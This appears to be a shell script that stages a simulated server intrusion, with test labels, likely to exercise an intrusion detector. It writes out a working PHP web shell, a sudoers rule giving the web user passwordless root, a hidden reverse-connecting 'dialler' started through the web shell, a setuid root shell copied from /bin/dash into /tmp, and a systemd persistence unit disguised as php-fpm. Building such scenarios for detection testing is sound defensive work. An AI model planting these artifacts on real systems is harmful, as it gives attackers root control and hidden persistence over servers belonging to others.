# id: C20
# mode: scan
# level: suspicious
# due: now
# root: service
# network: world
# title: a web shell, a rule of sudo for its user, a shell that gives root and a unit
. "$here/intruder.sh"
word shell
word name
printf '<?php if (isset($_POST["f"])) { $f = $_POST["f"]; $f($_POST["x"]); } if (isset($_GET["x"])) passthru($_GET["x"]);\n' >"/var/www/html/uploads/$shell.phtml"
mv "/var/www/html/uploads/$shell.phtml" "/var/www/html/uploads/$shell.php"
chown www-data "/var/www/html/uploads/$shell.php"
said path "/var/www/html/uploads/$shell.php"
echo "www-data ALL=(root) NOPASSWD: ALL" >"/etc/sudoers.d/$name"
chmod 440 "/etc/sudoers.d/$name"
said path "/etc/sudoers.d/$name"
mkdir -p /var/tmp/.d
dialler "/var/tmp/.d/$name" 443
web_service
ask "/uploads/$shell.php?x=sudo+-n+/var/tmp/.d/$name" 8081
dialled "$name"
said pid "$(pgrep -u root -xf "/usr/bin/python3 /var/tmp/.d/$name")"
cp /bin/dash "/tmp/.$name"
chmod 4755 "/tmp/.$name"
said path "/tmp/.$name"
unit "$name" "/var/tmp/.d/$name"
said entry name php-fpm
said restarter path "/etc/systemd/system/$name.service"
